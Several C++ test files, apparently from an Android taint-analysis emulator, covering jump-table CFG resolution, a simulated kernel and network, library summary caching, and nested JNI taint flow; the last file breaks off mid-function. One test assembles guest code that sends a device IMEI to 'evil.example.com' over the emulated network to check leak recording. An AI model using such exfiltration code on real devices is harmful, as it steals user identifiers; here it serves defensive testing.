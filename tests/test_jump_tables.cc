// Jump-table lowering: the VSA resolution that turns Thumb-2 TBB/TBH,
// literal-pool word tables and BLX-through-register sites into real CFG
// edges, cross-checked instruction-for-instruction against the executor —
// the successor-parity mirror of test_it_blocks.cc. Every dynamic branch
// edge out of a resolved dispatch block must be one of the static
// successors, on both execution engines.
#include <gtest/gtest.h>

#include <algorithm>
#include <vector>

#include "arm/assembler.h"
#include "arm/cpu.h"
#include "arm/thumb_assembler.h"
#include "static/cfg.h"
#include "static/scan_report.h"
#include "static/summary.h"

namespace ndroid {
namespace {

namespace sa = static_analysis;
using arm::Assembler;
using arm::Cond;
using arm::Label;
using arm::LR;
using arm::PC;
using arm::R;
using arm::ThumbAssembler;
using arm::ThumbLabel;

class JumpTableFixture : public ::testing::TestWithParam<bool> {
 protected:
  static constexpr GuestAddr kCode = 0x10000;
  static constexpr u32 kCodeSize = 0x4000;

  JumpTableFixture() : cpu_(mem_, map_) {
    map_.add("code", kCode, kCodeSize, mem::kRX);
    map_.add("[stack]", 0x70000, 0x10000, mem::kRW);
    cpu_.set_initial_sp(0x80000);
    cpu_.set_use_tb_cache(GetParam());
  }

  sa::Program lift(const std::vector<u8>& image,
                   std::vector<sa::FunctionEntry> entries) {
    mem_.write_bytes(kCode, image);
    const sa::CfgLifter lifter(mem_, {{kCode, kCode + kCodeSize, "code"}});
    return lifter.lift(entries);
  }

  /// Calls `entry(arg)` for each arg while recording branch edges, then
  /// checks every edge leaving `dispatch` lands on one of its static
  /// successors.
  void check_parity(const sa::FunctionCfg& fn, const sa::BasicBlock& dispatch,
                    GuestAddr entry, const std::vector<u32>& args,
                    const std::vector<u32>& expected) {
    std::vector<std::pair<GuestAddr, GuestAddr>> edges;
    const int id = cpu_.add_branch_hook(
        [&edges](arm::Cpu&, GuestAddr from, GuestAddr to) {
          edges.emplace_back(from, to);
        });
    for (std::size_t i = 0; i < args.size(); ++i) {
      EXPECT_EQ(cpu_.call_function(entry, {args[i]}), expected[i])
          << "arg=" << args[i];
    }
    cpu_.remove_branch_hook(id);

    bool saw_dispatch = false;
    for (const auto& [from, to] : edges) {
      const sa::BasicBlock* bb = fn.block_at(from);
      if (bb != &dispatch) continue;
      saw_dispatch = true;
      const GuestAddr t = to & ~1u;
      EXPECT_TRUE(std::find(bb->succs.begin(), bb->succs.end(), t) !=
                  bb->succs.end())
          << "dynamic edge 0x" << std::hex << from << " -> 0x" << to
          << " missing from resolved successors";
    }
    EXPECT_TRUE(saw_dispatch) << "no dynamic edge left the dispatch block";
  }

  mem::AddressSpace mem_;
  mem::MemoryMap map_;
  arm::Cpu cpu_;
};

/// The fully-resolved acceptance shape: no degradation anywhere, exactly
/// one resolved indirect branch, nothing unresolved.
void expect_fully_resolved(const sa::FunctionCfg& fn) {
  EXPECT_FALSE(fn.truncated);
  EXPECT_FALSE(fn.has_indirect_jumps);
  EXPECT_EQ(fn.resolved_indirect_branches, 1u);
  EXPECT_EQ(fn.unresolved_indirect_branches, 0u);
  EXPECT_TRUE(fn.degrade_sites.empty())
      << "first: " << sa::to_string(fn.degrade_sites.front().reason);
}

TEST_P(JumpTableFixture, ThumbTbbResolvesAndMatchesExecutor) {
  // switch (r0) { 0: 11; 1: 22; 2: 33; default: 99 } via TBB [pc, r0].
  ThumbAssembler a(kCode);
  ThumbLabel dflt;
  a.cmp_imm(R(0), 2);
  a.b(dflt, Cond::kHI);
  const GuestAddr tbb_pc = a.here();
  a.tbb(PC, R(0));
  const GuestAddr base = tbb_pc + 4;
  const GuestAddr case0 = base + 4;  // 3 entries + 1 pad byte
  for (u32 i = 0; i < 3; ++i) {
    a.byte(static_cast<u8>((case0 + 4 * i - base) / 2));
  }
  a.align(2);
  ASSERT_EQ(a.here(), case0);
  for (const u8 marker : {11, 22, 33}) {
    a.movs_imm(R(0), marker);  // 2 bytes
    a.bx(LR);                  // 2 bytes
  }
  a.bind(dflt);
  a.movs_imm(R(0), 99);
  a.bx(LR);

  const sa::Program prog = lift(a.finish(), {{kCode | 1u, "tbb_fn"}});
  const sa::FunctionCfg* fn = prog.function(kCode);
  ASSERT_NE(fn, nullptr);
  expect_fully_resolved(*fn);

  const sa::BasicBlock* dispatch = fn->block_at(tbb_pc);
  ASSERT_NE(dispatch, nullptr);
  EXPECT_FALSE(dispatch->has_indirect_jump);
  EXPECT_EQ(dispatch->jump_table.kind, sa::JumpTableKind::kTbb);
  EXPECT_EQ(dispatch->jump_table.entries, 3u);
  EXPECT_TRUE(dispatch->jump_table.image_rel);
  ASSERT_EQ(dispatch->succs.size(), 3u);
  for (u32 i = 0; i < 3; ++i) {
    EXPECT_TRUE(std::find(dispatch->succs.begin(), dispatch->succs.end(),
                          case0 + 4 * i) != dispatch->succs.end());
  }

  check_parity(*fn, *dispatch, kCode | 1u, {0, 1, 2, 3, 200},
               {11, 22, 33, 99, 99});
}

TEST_P(JumpTableFixture, ThumbTbhResolvesAndMatchesExecutor) {
  // Same dispatch through halfword entries: TBH [pc, r0, lsl #1].
  ThumbAssembler a(kCode);
  ThumbLabel dflt;
  a.cmp_imm(R(0), 2);
  a.b(dflt, Cond::kHI);
  const GuestAddr tbh_pc = a.here();
  a.tbh(PC, R(0));
  const GuestAddr base = tbh_pc + 4;
  const GuestAddr case0 = base + 6;  // 3 halfword entries
  for (u32 i = 0; i < 3; ++i) {
    a.hword(static_cast<u16>((case0 + 4 * i - base) / 2));
  }
  ASSERT_EQ(a.here(), case0);
  for (const u8 marker : {11, 22, 33}) {
    a.movs_imm(R(0), marker);
    a.bx(LR);
  }
  a.bind(dflt);
  a.movs_imm(R(0), 99);
  a.bx(LR);

  const sa::Program prog = lift(a.finish(), {{kCode | 1u, "tbh_fn"}});
  const sa::FunctionCfg* fn = prog.function(kCode);
  ASSERT_NE(fn, nullptr);
  expect_fully_resolved(*fn);

  const sa::BasicBlock* dispatch = fn->block_at(tbh_pc);
  ASSERT_NE(dispatch, nullptr);
  EXPECT_EQ(dispatch->jump_table.kind, sa::JumpTableKind::kTbh);
  EXPECT_EQ(dispatch->jump_table.entries, 3u);
  ASSERT_EQ(dispatch->succs.size(), 3u);

  check_parity(*fn, *dispatch, kCode | 1u, {0, 1, 2, 7}, {11, 22, 33, 99});
}

TEST_P(JumpTableFixture, ArmWordTableResolvesAndMatchesExecutor) {
  // The classic ARM dispatch: bounds check, then LDR pc through a word
  // table of absolute case addresses.
  const GuestAddr table = kCode + 0x200;
  Assembler a(kCode);
  Label dflt;
  const GuestAddr entry = a.here();
  a.cmp_imm(R(0), 2);
  a.b(dflt, Cond::kHI);
  const GuestAddr ldr_pc = a.here() + 8;  // after movw/movt pair
  a.mov_imm32(R(3), table);
  a.lsl(R(1), R(0), 2);
  ASSERT_EQ(a.here(), ldr_pc + 4);
  a.ldr_reg(PC, R(3), R(1));
  std::vector<GuestAddr> cases;
  for (const u8 marker : {11, 22, 33}) {
    cases.push_back(a.here());
    a.mov_imm(R(0), marker);
    a.ret();
  }
  a.bind(dflt);
  a.mov_imm(R(0), 99);
  a.ret();
  while (a.here() < table) a.word(0);
  for (const GuestAddr c : cases) a.word(c);

  const sa::Program prog = lift(a.finish(), {{entry, "word_table"}});
  const sa::FunctionCfg* fn = prog.function(entry);
  ASSERT_NE(fn, nullptr);
  expect_fully_resolved(*fn);

  const sa::BasicBlock* dispatch = fn->block_at(ldr_pc + 4);
  ASSERT_NE(dispatch, nullptr);
  EXPECT_FALSE(dispatch->has_indirect_jump);
  EXPECT_EQ(dispatch->jump_table.kind, sa::JumpTableKind::kWordTable);
  EXPECT_EQ(dispatch->jump_table.table, table);
  EXPECT_EQ(dispatch->jump_table.entries, 3u);
  EXPECT_FALSE(dispatch->jump_table.image_rel)
      << "MOVW/MOVT table base is absolute, must not claim to survive rebase";
  ASSERT_EQ(dispatch->succs.size(), 3u);
  for (const GuestAddr c : cases) {
    EXPECT_TRUE(std::find(dispatch->succs.begin(), dispatch->succs.end(),
                          c) != dispatch->succs.end());
  }

  check_parity(*fn, *dispatch, entry, {0, 1, 2, 3}, {11, 22, 33, 99});
}

TEST_P(JumpTableFixture, BlxThroughRegisterBecomesCallEdge) {
  // BLX through a materialised constant: a real call edge with the callee
  // transitively lifted, not an opaque has_indirect_call fallback.
  Assembler a(kCode);
  const GuestAddr helper = a.here();
  a.add_imm(R(0), R(0), 7);
  a.ret();
  const GuestAddr entry = a.here();
  a.push({R(4), LR});
  a.mov_imm32(R(2), helper);
  a.blx(R(2));
  a.pop({R(4), arm::PC});

  const sa::Program prog = lift(a.finish(), {{entry, "blx_const"}});
  const sa::FunctionCfg* fn = prog.function(entry);
  ASSERT_NE(fn, nullptr);
  EXPECT_FALSE(fn->has_indirect_calls);
  EXPECT_EQ(fn->resolved_indirect_calls, 1u);
  EXPECT_EQ(fn->unresolved_indirect_calls, 0u);
  ASSERT_EQ(fn->callees.size(), 1u);
  EXPECT_EQ(fn->callees[0] & ~1u, helper);
  // The callee was pulled into the transitive closure.
  EXPECT_NE(prog.function(helper), nullptr);
  // Absolute target: the call edge must not claim to survive a rebase.
  bool saw_site = false;
  for (const auto& [start, bb] : fn->blocks) {
    for (std::size_t i = 0; i < bb.call_targets.size(); ++i) {
      if ((bb.call_targets[i] & ~1u) != helper) continue;
      saw_site = true;
      ASSERT_LT(i, bb.call_target_relocatable.size());
      EXPECT_EQ(bb.call_target_relocatable[i], 0u);
    }
  }
  EXPECT_TRUE(saw_site);

  EXPECT_EQ(cpu_.call_function(entry, {5}), 12u);
}

INSTANTIATE_TEST_SUITE_P(Engines, JumpTableFixture,
                         ::testing::Values(false, true),
                         [](const ::testing::TestParamInfo<bool>& info) {
                           return info.param ? "TbCache" : "Interpretive";
                         });

}  // namespace
}  // namespace ndroid
