#include <gtest/gtest.h>

#include "arm/assembler.h"
#include "os/kernel.h"
#include "os/view_reconstructor.h"

namespace ndroid::os {
namespace {

class OsFixture : public ::testing::Test {
 protected:
  static constexpr GuestAddr kCode = 0x10000;
  static constexpr GuestAddr kData = 0x20000;

  OsFixture() : cpu_(mem_, map_), kernel_(mem_, map_) {
    map_.add("code", kCode, 0x4000, mem::kRX);
    map_.add("data", kData, 0x4000, mem::kRW);
    map_.add("[stack]", 0x70000, 0x10000, mem::kRW);
    cpu_.set_initial_sp(0x80000);
    kernel_.attach(cpu_);
  }

  u32 run(arm::Assembler& a, const std::vector<u32>& args = {}) {
    const auto code = a.finish();
    mem_.write_bytes(kCode, code);
    return cpu_.call_function(kCode, args);
  }

  mem::AddressSpace mem_;
  mem::MemoryMap map_;
  arm::Cpu cpu_;
  Kernel kernel_;
};

TEST(Vfs, CreateWriteRead) {
  Vfs vfs;
  EXPECT_FALSE(vfs.exists("/sdcard/x"));
  const u8 data[] = {'h', 'i'};
  vfs.write_at("/sdcard/x", 0, data);
  EXPECT_TRUE(vfs.exists("/sdcard/x"));
  EXPECT_EQ(vfs.content_str("/sdcard/x"), "hi");
  u8 buf[2];
  EXPECT_EQ(vfs.read_at("/sdcard/x", 0, buf), 2u);
  EXPECT_EQ(vfs.read_at("/sdcard/x", 2, buf), 0u);
}

TEST(Vfs, SparseWriteZeroFills) {
  Vfs vfs;
  const u8 data[] = {'z'};
  vfs.write_at("/f", 4, data);
  EXPECT_EQ(vfs.size("/f"), 5u);
  EXPECT_EQ(vfs.content("/f")[0], 0);
  EXPECT_EQ(vfs.content("/f")[4], 'z');
}

TEST(Network, ConnectAndSendRecordsPackets) {
  Network net;
  const int s = net.create_socket();
  net.connect(s, "info.3g.qq.com", 80);
  const u8 payload[] = {'G', 'E', 'T'};
  net.send(s, payload);
  ASSERT_EQ(net.packets().size(), 1u);
  EXPECT_EQ(net.packets()[0].dest_host, "info.3g.qq.com");
  EXPECT_EQ(net.packets()[0].payload_str(), "GET");
  EXPECT_EQ(net.bytes_sent_to("info.3g.qq.com"), "GET");
  EXPECT_EQ(net.bytes_sent_to("other.host"), "");
}

TEST(Network, SendOnUnconnectedThrows) {
  Network net;
  const int s = net.create_socket();
  const u8 b[] = {1};
  EXPECT_THROW(net.send(s, b), GuestFault);
}

TEST(Network, RecvQueue) {
  Network net;
  const int s = net.create_socket();
  net.queue_recv(s, {'a', 'b', 'c'});
  u8 buf[2];
  EXPECT_EQ(net.recv(s, buf), 2u);
  EXPECT_EQ(buf[0], 'a');
  EXPECT_EQ(net.recv(s, buf), 1u);
  EXPECT_EQ(buf[0], 'c');
  EXPECT_EQ(net.recv(s, buf), 0u);
}

TEST_F(OsFixture, HostFdRoundTrip) {
  const int fd = kernel_.open_file("/sdcard/notes.txt", kOpenWrite);
  const u8 data[] = {'l', 'e', 'a', 'k'};
  EXPECT_EQ(kernel_.write_fd(fd, data), 4u);
  kernel_.close_fd(fd);

  const int rfd = kernel_.open_file("/sdcard/notes.txt", kOpenRead);
  u8 buf[4];
  EXPECT_EQ(kernel_.read_fd(rfd, buf), 4u);
  EXPECT_EQ(std::string(reinterpret_cast<char*>(buf), 4), "leak");
}

TEST_F(OsFixture, OpenMissingFileForReadFails) {
  EXPECT_EQ(kernel_.open_file("/nope", kOpenRead), -1);
}

TEST_F(OsFixture, GuestSyscallWriteFile) {
  // Guest: fd = open("/sdcard/f", WR); write(fd, buf, 5); close(fd); exit(0)
  mem_.write_cstr(kData, "/sdcard/f");
  mem_.write_cstr(kData + 0x100, "hello");
  arm::Assembler a(kCode);
  using arm::R;
  a.mov_imm32(R(0), kData);
  a.mov_imm(R(1), kOpenWrite);
  a.mov_imm32(R(7), static_cast<u32>(Sys::kOpen));
  a.svc(0);
  a.mov(R(4), R(0));  // fd
  a.mov_imm32(R(1), kData + 0x100);
  a.mov_imm(R(2), 5);
  a.mov_imm32(R(7), static_cast<u32>(Sys::kWrite));
  a.svc(0);
  a.mov(R(0), R(4));
  a.mov_imm32(R(7), static_cast<u32>(Sys::kClose));
  a.svc(0);
  a.ret();
  run(a);
  EXPECT_EQ(kernel_.vfs().content_str("/sdcard/f"), "hello");
}

TEST_F(OsFixture, GuestSyscallSocketSend) {
  mem_.write_cstr(kData, "evil.example.com");
  mem_.write_cstr(kData + 0x100, "imei=35391805");
  arm::Assembler a(kCode);
  using arm::R;
  a.mov_imm32(R(7), static_cast<u32>(Sys::kSocket));
  a.svc(0);
  a.mov(R(4), R(0));
  a.mov_imm32(R(1), kData);
  a.mov_imm(R(2), 80);
  a.mov_imm32(R(7), static_cast<u32>(Sys::kConnect));
  a.svc(0);
  a.mov(R(0), R(4));
  a.mov_imm32(R(1), kData + 0x100);
  a.mov_imm(R(2), 13);
  a.mov_imm32(R(7), static_cast<u32>(Sys::kSend));
  a.svc(0);
  a.ret();
  run(a);
  EXPECT_EQ(kernel_.network().bytes_sent_to("evil.example.com"),
            "imei=35391805");
}

TEST_F(OsFixture, SyscallObserverSeesEvents) {
  std::vector<Sys> seen;
  kernel_.set_syscall_observer(
      [&](const SyscallEvent& ev) { seen.push_back(ev.number); });
  arm::Assembler a(kCode);
  using arm::R;
  a.mov_imm32(R(7), static_cast<u32>(Sys::kGetpid));
  a.svc(0);
  a.ret();
  run(a);
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0], Sys::kGetpid);
}

TEST_F(OsFixture, ExitStopsGuest) {
  arm::Assembler a(kCode);
  using arm::R;
  a.mov_imm(R(0), 7);
  a.mov_imm32(R(7), static_cast<u32>(Sys::kExit));
  a.svc(0);
  a.mov_imm(R(0), 99);  // must not execute
  a.ret();
  EXPECT_EQ(run(a), 7u);
  EXPECT_TRUE(kernel_.exited());
  EXPECT_EQ(kernel_.exit_code(), 7u);
}

TEST_F(OsFixture, MmapCarvesDistinctRanges) {
  const GuestAddr a1 = kernel_.mmap_anonymous(0x1000);
  const GuestAddr a2 = kernel_.mmap_anonymous(0x800);
  EXPECT_NE(a1, a2);
  EXPECT_GE(a2, a1 + 0x1000);
}

TEST_F(OsFixture, ViewReconstructorParsesGuestStructs) {
  const u32 pid = kernel_.create_process("com.tencent.qq");
  kernel_.map_region(pid, {"libdvm.so", 0x40000000, 0x40010000, mem::kRX});
  kernel_.map_region(pid, {"libtccsync.so", 0x50000000, 0x50004000, mem::kRX});
  const u32 pid2 = kernel_.create_process("system_server");
  kernel_.map_region(pid2, {"libandroid.so", 0x60000000, 0x60001000, mem::kRX});

  // The reconstructor sees ONLY guest memory.
  ViewReconstructor recon(mem_, Kernel::kTaskRoot);
  const auto views = recon.reconstruct();
  ASSERT_EQ(views.size(), 2u);

  const ProcessView* qq = recon.find_process(views, "com.tencent.qq");
  ASSERT_NE(qq, nullptr);
  EXPECT_EQ(qq->pid, pid);
  ASSERT_EQ(qq->regions.size(), 2u);
  EXPECT_EQ(qq->regions[0].name, "libdvm.so");
  EXPECT_EQ(qq->module_of(0x50000123), "libtccsync.so");
  EXPECT_EQ(qq->module_of(0x12345), "<unmapped>");
  const RegionView* dvm = qq->find_module("libdvm.so");
  ASSERT_NE(dvm, nullptr);
  EXPECT_EQ(dvm->start, 0x40000000u);
  EXPECT_EQ(dvm->end, 0x40010000u);

  const ProcessView* sys = recon.find_process(views, "system_server");
  ASSERT_NE(sys, nullptr);
  EXPECT_EQ(sys->pid, pid2);
}

TEST_F(OsFixture, ViewReconstructorTracksUpdates) {
  const u32 pid = kernel_.create_process("app");
  ViewReconstructor recon(mem_, Kernel::kTaskRoot);
  EXPECT_EQ(recon.reconstruct()[0].regions.size(), 0u);
  kernel_.map_region(pid, {"libfoo.so", 0x50000000, 0x50001000, mem::kRX});
  EXPECT_EQ(recon.reconstruct()[0].regions.size(), 1u);
}

TEST_F(OsFixture, ViewReconstructorCycleGuard) {
  kernel_.create_process("app");
  // Corrupt the guest task list into a self-loop.
  const GuestAddr first = mem_.read32(Kernel::kTaskRoot);
  mem_.write32(first + 0x00, first);
  ViewReconstructor recon(mem_, Kernel::kTaskRoot);
  EXPECT_THROW((void)recon.reconstruct(), GuestFault);
}

TEST_F(OsFixture, TruncatedCommIsBounded) {
  kernel_.create_process("a.very.long.package.name.exceeding.comm");
  ViewReconstructor recon(mem_, Kernel::kTaskRoot);
  const auto views = recon.reconstruct();
  EXPECT_LE(views[0].name.size(), 15u);
}

}  // namespace
}  // namespace ndroid::os
