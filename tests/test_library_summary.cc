// Position-independent library artifacts (src/static/library_summary):
// content-hash keys, the zero-copy same-base bind, and the conservative
// relocation rules the farm's cross-app summary cache relies on.
#include <gtest/gtest.h>

#include <vector>

#include "arm/assembler.h"
#include "mem/address_space.h"
#include "static/library_summary.h"
#include "static/summary_cache.h"

namespace ndroid {
namespace {

namespace sa = static_analysis;
using arm::Assembler;
using arm::Cond;
using arm::Label;
using arm::LR;
using arm::R;

constexpr GuestAddr kBaseA = 0x10000;
constexpr GuestAddr kBaseB = 0x58000;

/// A three-function image assembled at `base`:
///   konst    — mov r0, #42; ret                (transparent)
///   stamp    — writes r0 into a fixed global   (kStatic window)
///   caller   — saves lr, bl konst, ret         (has a call site)
struct TestLib {
  std::vector<u8> image;
  GuestAddr konst = 0, stamp = 0, caller = 0;
  GuestAddr global = 0;
};

TestLib assemble(GuestAddr base) {
  Assembler a(base);
  TestLib lib;

  Label konst_lbl;
  a.align(4);
  a.bind(konst_lbl);
  lib.konst = a.here();
  a.mov_imm(R(0), 42);
  a.ret();

  a.align(4);
  lib.global = a.here();
  a.word(0);

  a.align(4);
  lib.stamp = a.here();
  a.mov_imm32(R(3), lib.global);
  a.str(R(0), R(3));
  a.ret();

  a.align(4);
  lib.caller = a.here();
  a.push({R(4), LR});
  a.bl(konst_lbl);
  a.pop({R(4), LR});
  a.ret();

  lib.image = a.finish();
  return lib;
}

std::vector<sa::FunctionEntry> entries_of(const TestLib& lib) {
  return {{lib.konst, "konst"}, {lib.stamp, "stamp"}, {lib.caller, "caller"}};
}

sa::LibrarySummary analyze_at(GuestAddr base, const TestLib& lib) {
  mem::AddressSpace mem;
  mem.write_bytes(base, lib.image);
  const sa::CodeRegion region{base, base + static_cast<u32>(lib.image.size()),
                              "libtest.so"};
  return sa::analyze_library(mem, region, entries_of(lib));
}

TEST(LibrarySummary, KeyIgnoresEntryOrderAndLoadBase) {
  const TestLib at_a = assemble(kBaseA);
  const TestLib at_a2 = at_a;

  std::vector<sa::FunctionEntry> fwd = entries_of(at_a);
  std::vector<sa::FunctionEntry> rev(fwd.rbegin(), fwd.rend());
  EXPECT_EQ(sa::library_key(at_a.image, fwd, kBaseA),
            sa::library_key(at_a2.image, rev, kBaseA));

  // Same offsets at a different claimed base: the key is position-free.
  std::vector<sa::FunctionEntry> shifted;
  for (const sa::FunctionEntry& e : fwd) {
    shifted.push_back({e.addr - kBaseA + kBaseB, e.name});
  }
  EXPECT_EQ(sa::library_key(at_a.image, fwd, kBaseA),
            sa::library_key(at_a.image, shifted, kBaseB));
}

TEST(LibrarySummary, SameBaseBindIsZeroCopy) {
  const TestLib lib = assemble(kBaseA);
  auto snapshot =
      std::make_shared<const sa::LibrarySummary>(analyze_at(kBaseA, lib));
  EXPECT_EQ(sa::bind_library(snapshot, kBaseA).get(), snapshot.get());
}

TEST(LibrarySummary, RebindShiftsStructure) {
  const TestLib lib = assemble(kBaseA);
  auto snapshot =
      std::make_shared<const sa::LibrarySummary>(analyze_at(kBaseA, lib));
  const auto bound = sa::bind_library(snapshot, kBaseB);
  const GuestAddr delta = kBaseB - kBaseA;

  ASSERT_NE(bound.get(), snapshot.get());
  EXPECT_EQ(bound->lifted_base, kBaseB);
  EXPECT_EQ(bound->key, snapshot->key);

  for (const auto& [entry, fn] : snapshot->program.functions) {
    const auto it = bound->program.functions.find(entry + delta);
    ASSERT_NE(it, bound->program.functions.end()) << fn.name;
    EXPECT_EQ(it->second.name, fn.name);
    EXPECT_EQ(it->second.lo, fn.lo + delta);
    EXPECT_EQ(it->second.hi, fn.hi + delta);
    EXPECT_EQ(it->second.blocks.size(), fn.blocks.size());
  }
  // Instruction boundaries (the gate's mid-instruction defence) shift too.
  for (const auto& [entry, bounds] : snapshot->boundaries) {
    const auto it = bound->boundaries.find(entry + delta);
    ASSERT_NE(it, bound->boundaries.end());
    EXPECT_EQ(it->second.size(), bounds.size());
    for (const GuestAddr pc : bounds) {
      EXPECT_TRUE(it->second.contains(pc + delta));
    }
  }
}

TEST(LibrarySummary, TransparentCallFreeFunctionRelocatesLosslessly) {
  const TestLib lib = assemble(kBaseA);
  auto snapshot =
      std::make_shared<const sa::LibrarySummary>(analyze_at(kBaseA, lib));
  const sa::TaintSummary* before = snapshot->index.find(lib.konst);
  ASSERT_NE(before, nullptr);
  ASSERT_TRUE(before->transparent) << "fixture expects konst transparent";

  const auto bound = sa::bind_library(snapshot, kBaseB);
  const sa::TaintSummary* after =
      bound->index.find(lib.konst + (kBaseB - kBaseA));
  ASSERT_NE(after, nullptr);
  EXPECT_TRUE(after->transparent);
  EXPECT_EQ(after->mem_kind, sa::MemKind::kNone);
  EXPECT_EQ(after->touched_regs, before->touched_regs);
  EXPECT_EQ(after->args_to_ret, before->args_to_ret);
}

TEST(LibrarySummary, ConstantWindowsDegradeToOpaqueOnRebind) {
  const TestLib lib = assemble(kBaseA);
  auto snapshot =
      std::make_shared<const sa::LibrarySummary>(analyze_at(kBaseA, lib));
  const sa::TaintSummary* before = snapshot->index.find(lib.stamp);
  ASSERT_NE(before, nullptr);
  ASSERT_EQ(before->mem_kind, sa::MemKind::kStatic)
      << "fixture expects stamp's store resolved to a constant window";

  const auto bound = sa::bind_library(snapshot, kBaseB);
  const sa::TaintSummary* after =
      bound->index.find(lib.stamp + (kBaseB - kBaseA));
  ASSERT_NE(after, nullptr);
  // The MOVW/MOVT-derived window points at the old absolute address; the
  // relocated summary must not claim to know where the store lands.
  EXPECT_EQ(after->mem_kind, sa::MemKind::kOpaque);
  EXPECT_TRUE(after->windows.empty());
}

TEST(LibrarySummary, CallSitesReResolveOnRebind) {
  const TestLib lib = assemble(kBaseA);
  auto snapshot =
      std::make_shared<const sa::LibrarySummary>(analyze_at(kBaseA, lib));
  const sa::TaintSummary* before = snapshot->index.find(lib.caller);
  ASSERT_NE(before, nullptr);
  ASSERT_FALSE(before->unresolved_calls)
      << "fixture expects caller's BL edge resolved at the lifted base";

  const auto bound = sa::bind_library(snapshot, kBaseB);
  const GuestAddr delta = kBaseB - kBaseA;
  const sa::TaintSummary* after = bound->index.find(lib.caller + delta);
  ASSERT_NE(after, nullptr);
  // BL edges are PC-relative: they shift with the code and the rebound
  // summary fixed point recomputes genuine facts through them — no
  // worst-case fallback.
  EXPECT_FALSE(after->unresolved_calls);
  EXPECT_EQ(after->args_to_ret, before->args_to_ret);
  EXPECT_EQ(after->args_to_mem, before->args_to_mem);
  EXPECT_EQ(after->ret_depends_on_mem, before->ret_depends_on_mem);
  EXPECT_EQ(after->touched_regs, before->touched_regs);

  // The relocated call graph really carries the shifted edge.
  const sa::FunctionCfg* caller_fn =
      bound->program.function(lib.caller + delta);
  ASSERT_NE(caller_fn, nullptr);
  ASSERT_EQ(caller_fn->callees.size(), 1u);
  EXPECT_EQ(caller_fn->callees[0] & ~1u, lib.konst + delta);
}

TEST(SummaryCache, HitsShareOneSnapshotAndRebindsCount) {
  const TestLib lib = assemble(kBaseA);
  sa::SummaryCache cache;
  const u64 key = sa::library_key(lib.image, entries_of(lib), kBaseA);

  int lifts = 0;
  const auto lift = [&] {
    ++lifts;
    return analyze_at(kBaseA, lib);
  };
  const auto first = cache.acquire(key, kBaseA, lift);
  const auto second = cache.acquire(key, kBaseA, lift);
  const auto moved = cache.acquire(key, kBaseB, lift);

  EXPECT_EQ(lifts, 1);
  EXPECT_EQ(first.get(), second.get());
  EXPECT_NE(moved.get(), first.get());
  EXPECT_EQ(moved->lifted_base, kBaseB);

  const sa::SummaryCache::Stats stats = cache.stats();
  EXPECT_EQ(stats.misses, 1u);
  EXPECT_EQ(stats.hits, 2u);
  EXPECT_EQ(stats.rebinds, 1u);
  EXPECT_EQ(cache.size(), 1u);
}

}  // namespace
}  // namespace ndroid
