// Deep JNI flow tests: nested native<->Java call stacks (the LIFO discipline
// of the JNI-entry phase machine) and the exception group of the DVM Hook
// Engine (paper §V-B "Exception": taint carried by a thrown exception's
// message).
#include <gtest/gtest.h>

#include "apps/native_lib_builder.h"
#include "core/ndroid.h"

namespace ndroid::core {
namespace {

using android::Device;
using arm::LR;
using arm::PC;
using arm::R;
using arm::SP;
using dvm::CodeBuilder;
using dvm::kAccPublic;
using dvm::kAccStatic;
using dvm::Method;

TEST(NestedJni, JavaNativeJavaNativeTaintSurvives) {
  // main -> nativeOuter(x) -> Java relay(x) -> nativeInner(x) -> returns x.
  // The taint must survive both boundary crossings in each direction.
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lnest/App;");

  apps::NativeLibBuilder lib(device, "libnest.so");
  auto& a = lib.a();

  // int nativeInner(JNIEnv*, jclass, int x) { return x + 1; }
  const GuestAddr fn_inner = lib.fn();
  a.add_imm(R(0), R(2), 1);
  a.ret();

  const GuestAddr cls_name = lib.cstr("nest/App");
  const GuestAddr relay_name = lib.cstr("relay");

  // int nativeOuter(JNIEnv*, jclass, int x):
  //   calls the Java method relay(x) via CallStaticIntMethodA.
  const GuestAddr fn_outer = lib.fn();
  a.push({R(4), R(5), R(6), LR});
  a.mov(R(4), R(0));  // env
  a.mov(R(5), R(2));  // x
  a.mov_imm32(R(1), cls_name);
  a.call(device.jni.fn("FindClass"));
  a.mov(R(6), R(0));
  a.mov(R(0), R(4));
  a.mov(R(1), R(6));
  a.mov_imm32(R(2), relay_name);
  a.mov_imm(R(3), 0);
  a.call(device.jni.fn("GetStaticMethodID"));
  a.mov(R(2), R(0));  // mid
  a.sub_imm(SP, SP, 8);
  a.str(R(5), SP, 0);  // args[0] = x
  a.mov(R(0), R(4));
  a.mov(R(1), R(6));
  a.mov(R(3), SP);
  a.call(device.jni.fn("CallStaticIntMethodA"));
  a.add_imm(SP, SP, 8);
  a.add_imm(R(0), R(0), 100);
  a.pop({R(4), R(5), R(6), PC});
  lib.install();

  Method* inner = dvm.define_native(app, "inner", "II",
                                    kAccPublic | kAccStatic, fn_inner);
  // int relay(int x) { return inner(x) + 10; }
  CodeBuilder relay_cb;
  relay_cb.invoke(inner, {2}).move_result(0).add_imm(0, 0, 10)
      .return_value(0);
  dvm.define_method(app, "relay", "II", kAccPublic | kAccStatic, 3,
                    relay_cb.take());
  Method* outer = dvm.define_native(app, "outer", "II",
                                    kAccPublic | kAccStatic, fn_outer);

  const dvm::Slot r = dvm.call(*outer, {dvm::Slot{1, kTaintImei}});
  EXPECT_EQ(r.value, 112u);  // ((1 + 1) + 10) + 100
  EXPECT_EQ(r.taint & kTaintImei, kTaintImei);
  // Two JNI entries means two SourcePolicies with tainted args.
  EXPECT_EQ(nd.dvm_hooks().source_policies_created, 2u);
  EXPECT_EQ(nd.dvm_hooks().source_policies_applied, 2u);
  EXPECT_GE(nd.dvm_hooks().jni_exit_restores, 1u);
}

struct ExceptionApp {
  Method* entry;
};

ExceptionApp build_exception_carrier(Device& device) {
  auto& dvm = device.dvm;
  dvm::ClassObject* exc_cls = dvm.define_class("Ljava/io/IOException;");
  exc_cls->add_instance_field("message", 'L');
  dvm::ClassObject* app = dvm.define_class("Lexc/App;");

  apps::NativeLibBuilder lib(device, "libexc.so");
  auto& a = lib.a();
  const GuestAddr exc_name = lib.cstr("java/io/IOException");

  // void thrower(JNIEnv*, jclass, jstring secret):
  //   p = GetStringUTFChars(secret); ThrowNew(env, IOException, p);
  const GuestAddr fn_thrower = lib.fn();
  a.push({R(4), R(5), LR});
  a.mov(R(4), R(0));
  a.mov(R(1), R(2));
  a.mov_imm(R(2), 0);
  a.call(device.jni.fn("GetStringUTFChars"));
